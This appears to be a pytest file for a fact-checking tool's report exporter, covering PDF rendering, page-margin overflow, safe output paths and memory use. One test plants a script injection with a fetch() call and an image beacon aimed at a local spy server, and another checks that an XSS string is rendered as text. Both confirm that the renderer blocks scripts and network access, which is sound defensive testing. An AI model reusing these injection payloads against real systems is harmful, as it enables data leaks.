    assert res.exit_code == 0 and victim.read_text() == "keep me" and not link.is_symlink()
    assert not list(tmp_path.glob(".*part"))
    if store.url.startswith("sqlite"):
        db = Path(store.url.split("///", 1)[1])
        before = db.read_bytes()
        for target in (db, db.with_name(db.name + "-wal")):
            res = runner.invoke(app, ["export", "--format", "csv", "--out", str(target), "--force"])
            assert res.exit_code == 2 and "database itself" in res.output
        assert db.read_bytes()[:100] == before[:100]
        with store.read() as session:
            assert audit.verify_chain(session).ok


def test_pdf_without_browser_is_a_clear_error(store: Store, tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    populate(store)
    monkeypatch.setenv("VERIFIER_BROWSER", str(tmp_path / "no-chromium"))
    before = head(store)
    with pytest.raises(BrowserMissing, match="PDF export needs Chromium.*VERIFIER_BROWSER"):
        export_to_path(store=store, fmt="pdf", path=tmp_path / "r.pdf", actor="audrey")
    assert head(store) == before and not (tmp_path / "r.pdf").exists()
    as_auditor(store, monkeypatch)
    before = head(store)
    res = CliRunner().invoke(cli_app(), ["export", "--format", "pdf", "--out", str(tmp_path / "r.pdf")])
    assert res.exit_code == 2 and "needs Chromium" in res.output
    assert head(store) == before


# --- browser ----------------------------------------------------------------------------------

BROWSER = os.environ.get("VERIFIER_BROWSER", "/usr/bin/chromium")


@pytest.mark.browser
@pytest.mark.skipif(not Path(BROWSER).exists() and not os.environ.get("CI"),
                    reason=f"no Chromium at {BROWSER}")
def test_report_renders_to_pdf_and_png(tmp_path: Path) -> None:
    from verifier.report.pdf import html_to_png

    store = open_store(f"sqlite:///{tmp_path / 'claims.db'}")
    try:
        populate(store)
        pdf = tmp_path / "report.pdf"
        result = export_to_path(store=store, fmt="pdf", path=pdf, actor="audrey")
        assert pdf.read_bytes().startswith(b"%PDF-") and result.rows == 6
        assert last_event(store).new["format"] == "pdf"  # type: ignore[index]
        html = tmp_path / "report.html"
        export_to_path(store=store, fmt="html", path=html, actor="audrey")
    finally:
        close_stores()
    assert shutil.which("pdftoppm"), "pdftoppm (poppler-utils) is needed"
    subprocess.run(["pdftoppm", "-png", "-r", "50", "-f", "1", "-l", "1", str(pdf), str(tmp_path / "page")],
                   check=True, timeout=60)
    pages = list(tmp_path.glob("page*.png"))
    assert pages and pages[0].stat().st_size > 5_000
    text = subprocess.run(["pdftotext", str(pdf), "-"], capture_output=True, text=True, timeout=60)
    if text.returncode == 0:  # pdftotext comes with pdftoppm in poppler-utils
        assert "Fact-check report" in text.stdout and "Findings per document" in text.stdout
        assert "</script><script>alert(1)</script>" in text.stdout  # shown as text
    shot = tmp_path / "report.png"
    html_to_png(html, shot)
    assert shot.read_bytes().startswith(b"\x89PNG") and shot.stat().st_size > 10_000


LONG_URL = "https://news.example.org/" + "/".join(f"section{i}-sous-rubrique-{i}" for i in range(6)) + "?utm=x" * 4
LONG_WORD = "Anticonstitutionnellement" * 4  # one word, 100 letters: no place to break it
LONG_TITLE = ("Un titre très long sur la rencontre entre les ministres des Affaires étrangères "
              "TITREFINAL")


def wide_store(tmp_path: Path) -> Store:
    """What made the PDF overflow its margins: a long title, a long URL, a long word in a
    claim, a note and a source URL with no place to break, long reviewer names."""
    store = open_store(f"sqlite:///{tmp_path / 'wide.db'}")
    populate(store)
    text = (f"Selon le communiqué {LONG_URL} publié hier, l'accord date de {LONG_WORD} huit ans. "
            f"« Nous {LONG_WORD} », a déclaré le ministre.")
    with store.write() as s:
        d = Document(sha256="d" * 64, language="fr", text=text, title=LONG_TITLE + " " + LONG_WORD,
                     url=LONG_URL, site="Le Journal", author="Awa Diallo", published=date(2025, 10, 17))
        s.add(d)
        s.flush()
        t = claim(s, d, "temporal", "huit ans", finding="contradicted",
                  explanation=f"See {LONG_URL}")
        q = claim(s, d, "quote", f"« Nous {LONG_WORD} »", speaker="le ministre", finding="no_evidence")
        s.add(Evidence(claim_id=t.id, kind="passage", source_title=LONG_WORD, score=70.0,
                       source_url=LONG_URL, method="align"))
        ids = (t.id, q.id)
    record_verdict(store=store, claim_id=ids[0], verdict="False", note=f"{LONG_URL} {LONG_WORD}",
                   actor="alice", seen_version=1)
    return store


OVERFLOW_JS = """() => {
  const width = document.documentElement.clientWidth, out = [];
  if (document.documentElement.scrollWidth > width) out.push(['page', document.documentElement.scrollWidth]);
  for (const el of document.querySelectorAll('body *')) {
    const r = el.getBoundingClientRect();
    if (r.width === 0 && r.height === 0) continue;
    if (r.right > width + 0.5) out.push([el.tagName + '.' + el.className, Math.round(r.right)]);
    if (['TABLE', 'TD', 'TH', 'DD', 'BLOCKQUOTE', 'DIV', 'FIGURE', 'P', 'H1', 'H3', 'LI'].includes(el.tagName)
        && el.scrollWidth > el.clientWidth + 1)
      out.push([el.tagName + '.' + el.className + ' scroll', el.scrollWidth, el.clientWidth]);
  }
  return {width, out: out.slice(0, 20)};
}"""


def overflowing(html: Path, width_px: int) -> dict[str, Any]:
    """Elements of the report wider than the page, laid out as for print at `width_px` (the A4
    page less its margins), measured by Chromium."""
    from verifier.report import pdf

    with pdf._playwright() as p:
        browser = pdf._launch(p)
        try:
            page = pdf._open(browser, html)
            page.emulate_media(media="print")
            page.set_viewport_size({"width": width_px, "height": 1100})
            return page.evaluate(OVERFLOW_JS)  # type: ignore[no-any-return]
        finally:
            browser.close()


def pdf_words(pdf: Path) -> tuple[list[tuple[float, float, str]], float]:
    """(xMin, xMax, word) of every word pdftotext finds, and the page width (points)."""
    out = subprocess.run(["pdftotext", "-bbox", str(pdf), "-"], capture_output=True, text=True,
                         timeout=60, check=True).stdout
    width = float(re.search(r'<page width="([\d.]+)"', out).group(1))  # type: ignore[union-attr]
    words = [(float(a), float(b), html_unescape(w)) for a, b, w in
             re.findall(r'<word xMin="([\d.]+)" yMin="[\d.]+" xMax="([\d.]+)" yMax="[\d.]+">(.*?)</word>', out)]
    return words, width


def html_unescape(text: str) -> str:
    from html import unescape

    return unescape(text)


@pytest.mark.browser
@pytest.mark.skipif(not Path(BROWSER).exists() and not os.environ.get("CI"),
                    reason=f"no Chromium at {BROWSER}")
def test_pdf_fits_the_page_long_words_and_urls_wrap(tmp_path: Path) -> None:
    """Nothing in the report is wider than an A4 page less its 12 mm margins: measured in
    Chromium (print layout, every element), and in the PDF itself (every word pdftotext finds
    lies within the margins; the long URL and word are all there, wrapped, not cut off). Chart
    labels are whole: the long title's last word is in both document charts."""
    store = wide_store(tmp_path)
    try:
        html, pdf = tmp_path / "wide.html", tmp_path / "wide.pdf"
        export_to_path(store=store, fmt="html", path=html, actor="audrey")
        export_to_path(store=store, fmt="pdf", path=pdf, actor="audrey")
    finally:
        close_stores()
    a4_printable_px = round((210 - 2 * 12) / 25.4 * 96)  # 703 CSS px
    measured = overflowing(html, a4_printable_px)
    assert measured["width"] == a4_printable_px and measured["out"] == [], measured
    words, page_width = pdf_words(pdf)
    margin = 12 / 25.4 * 72  # 12 mm in points
    outside = [(round(a), round(b), w[:30]) for a, b, w in words if b > page_width - margin + 1 or a < margin - 1]
    assert words and outside == [], outside[:10]
    text = "".join(w for _, _, w in words)
    assert LONG_URL.replace(" ", "") in text and LONG_WORD in text
    assert text.count("TITREFINAL") >= 4  # 2 charts, the documents table, the section title
    # Chromium drops what lies past the page's edge: every header of the documents table is in
    # the PDF (the last ones were cut off when the table was wider than the page).
    page = html.read_text(encoding="utf-8")
    table = page.split("<h3>Documents</h3>", 1)[1].split("</tr>", 1)[0]
    heads = [html_unescape(re.sub(r"<[^>]+>", "", h)) for h in re.findall(r"<th[^>]*>(.*?)</th>", table)]
    flat = re.sub("[-\u00ad\u2010]", "", text.split("Documents", 1)[1])
    assert len(heads) == 9 and all(re.sub("[-\u00ad_ ]", "", h) in flat for h in heads), heads


def test_pdf_rendering_runs_no_script_and_fetches_nothing(tmp_path: Path) -> None:
    """The report holds hostile document text: its renderer has JavaScript off and no network
    (a local server sees no request)."""
    import http.server
    import threading

    from verifier.report import pdf

    hits: list[str] = []

    class Spy(http.server.BaseHTTPRequestHandler):
        def do_GET(self) -> None:  # noqa: N802
            hits.append(self.path)
            self.send_error(404)

        def log_message(self, *args: object) -> None:
            pass

    spy = http.server.ThreadingHTTPServer(("127.0.0.1", 0), Spy)
    threading.Thread(target=spy.serve_forever, daemon=True).start()
    port = spy.server_address[1]
    html = tmp_path / "hostile.html"
    html.write_text("<html><head><title>report</title></head><body><p>claims</p>"
                    "<script>document.title = 'script ran';"
                    f"fetch('http://127.0.0.1:{port}/from-script')</script>"
                    f"<img src='http://127.0.0.1:{port}/beacon.png'></body></html>",
                    encoding="utf-8")
    try:
        pdf.html_to_pdf(html, tmp_path / "hostile.pdf")
        with pdf._playwright() as p:
            browser = pdf._launch(p)
            try:
                page = pdf._open(browser, html)
                assert page.title() == "report"  # the script did not run
            finally:
                browser.close()
    finally:
        spy.shutdown()
        spy.server_close()
    assert (tmp_path / "hostile.pdf").read_bytes().startswith(b"%PDF-")
    assert hits == []


# --- bounded memory -----------------------------------------------------------------------------


def test_csv_export_memory_does_not_grow_with_claims(tmp_path: Path) -> None:
    """10,000 claims export with a small peak: rows are streamed, not collected."""
    store = open_store(f"sqlite:///{tmp_path / 'big.db'}")
    try:
        with store.write() as s:
            doc = Document(sha256="e" * 64, language="en", text="x" * 200, title="big")
            s.add(doc)
            s.flush()
            now = datetime.now(UTC)
            s.execute(insert(Claim.__table__), [  # type: ignore[attr-defined]
                {"document_id": doc.id, "kind": "factual", "start": i % 100, "end": i % 100 + 50,
                 "text": f"claim {i} " + "y" * 80, "status": "reviewed", "verdict": "True",
                 "reviewed_by": "alice", "reviewed_at": now, "version": 2, "created_at": now,
                 "updated_at": now} for i in range(10_000)])
        tracemalloc.start()
        try:
            out = open(os.devnull, "wb")  # noqa: SIM115
            result = export(store=store, fmt="csv", out=out, actor="bench")
            out.close()
            peak = tracemalloc.get_traced_memory()[1]
        finally:
            tracemalloc.stop()
        assert result.rows == 10_000
        assert peak < 16 * 2**20, f"peak {peak / 2**20:.1f} MiB"
    finally:
        close_stores()
